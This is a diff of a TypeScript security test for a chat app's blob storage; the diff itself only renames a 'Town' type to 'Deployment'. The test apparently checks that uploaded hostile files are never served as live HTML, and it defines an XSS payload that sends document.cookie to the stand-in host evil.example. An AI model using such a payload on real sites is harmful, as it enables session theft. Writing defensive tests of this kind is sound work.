@@ -6,8 +6,8 @@ import { readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import type { Hex } from "@yanshu/client";
 import { allOf, type Check } from "../check.ts";
+import type { Deployment } from "../real/deployment.ts";
 import { type Device, until } from "../real/device.ts";
-import type { Town } from "../real/town.ts";
 
 const webSource = join(import.meta.dir, "../../../../web/src");
 const script = "<script>fetch('/ws');new Image().src='https://evil.example/'+document.cookie</script>";
@@ -34,7 +34,7 @@ const corpus: readonly { readonly name: string; readonly type: string; readonly 
   },
 ];
 
-export async function hostileFiles(town: Town, ann: Device, ben: Device, chat: Hex): Promise<Check> {
+export async function hostileFiles(deployment: Deployment, ann: Device, ben: Device, chat: Hex): Promise<Check> {
   const filesOf = () =>
     ben.view("timeline", chat, 1_000).items.flatMap(({ body }) => (body.kind === "file" ? [body] : []));
   const before = filesOf().length;
@@ -44,9 +44,9 @@ export async function hostileFiles(town: Town, ann: Device, ben: Device, chat: H
   const texts = await Promise.all(
     arrived.map(async ({ file }) => Buffer.from(await ben.api.readFile(file.handle, 0, file.bytes)).toString()),
   );
-  await town.settled();
+  await deployment.settled();
   // Home may put what it likes in the place of a sealed file: plain HTML, as if an uploader had sealed nothing.
-  const folder = join(town.server.folder, "blobs");
+  const folder = join(deployment.server.folder, "blobs");
   const stored = (readdirSync(folder, { recursive: true }) as string[]).filter((name) =>
     /^[0-9a-f]{2}.[0-9a-f]{32}$/.test(name),
   );
@@ -57,7 +57,7 @@ export async function hostileFiles(town: Town, ann: Device, ben: Device, chat: H
   const answers = await Promise.all(
     stored.flatMap((name) =>
       [{}, { range: "bytes=0-63" }, { accept: "text/html", "sec-fetch-dest": "document" }].map((headers) =>
-        fetch(`http://127.0.0.1:${town.server.port}/blobs/${name.slice(3)}`, { headers }),
+        fetch(`http://127.0.0.1:${deployment.server.port}/blobs/${name.slice(3)}`, { headers }),
       ),
     ),
   );
